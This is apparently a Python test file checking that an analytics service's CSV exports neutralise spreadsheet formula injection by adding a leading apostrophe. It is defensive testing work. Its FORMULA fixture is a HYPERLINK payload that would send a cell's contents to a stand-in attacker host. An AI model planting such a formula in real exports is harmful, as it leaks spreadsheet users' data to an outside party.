"""Finding 14: CSV exports escape formula injection (OWASP "CSV injection"): a text cell that
starts with = + - @ TAB or CR is written with a leading apostrophe, so a spreadsheet shows it
as text instead of running it."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from services.analytics.api.formats import to_csv
from services.analytics.app import build_app
from shared.kafka import all_topics, ensure_topics
from shared.outbox import encode
from tests.analytics.conftest import analytics_settings
from tests.analytics.factory import Story, catalog_event
from tests.conftest import Infra
from tests.support import eventually, serving, unique, wait_ready

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Sở Giao thông")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_gets_an_apostrophe(start: str) -> None:
    text = to_csv([{"name": f"{start}1+1"}], ("name",))
    assert rows_of(text)[1] == [f"'{start}1+1"]


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    text = to_csv([{"n": -5, "x": 1.5, "name": "Sở Giao thông"}], ("n", "x", "name"))
    assert rows_of(text)[1] == ["-5", "1.5", "Sở Giao thông"]


async def test_an_agency_named_like_a_formula_reaches_the_scoreboard_csv_as_text(
    infra: Infra,
) -> None:
    prefix = f"t{uuid.uuid4().hex[:10]}."
    await ensure_topics(infra.kafka, all_topics(prefix), partitions=3)
    settings = analytics_settings(infra, prefix, unique("analytics_csv_"))
    app = build_app(settings)
    story = Story(unique("r")).created().assigned(5, "dot")
    async with serving(app) as client:
        await wait_ready(client)
        broker = app.state.runtime.broker
        for event in (catalog_event(1, FORMULA), *story.events):
            await broker.publish(
                encode(event), settings.topic(event.type), key=event.subject.encode()
            )

        async def agency_cells() -> list[str] | None:
            response = await client.get("/api/v1/stats/scoreboard.csv", params={"lang": "en"})
            found = list(csv.DictReader(io.StringIO(response.text)))
            names = [r["agency_name"] for r in found]
            return names if names and names != ["DOT"] else None

        assert await eventually(agency_cells, what="the catalogue's agency name") == ["'" + FORMULA]
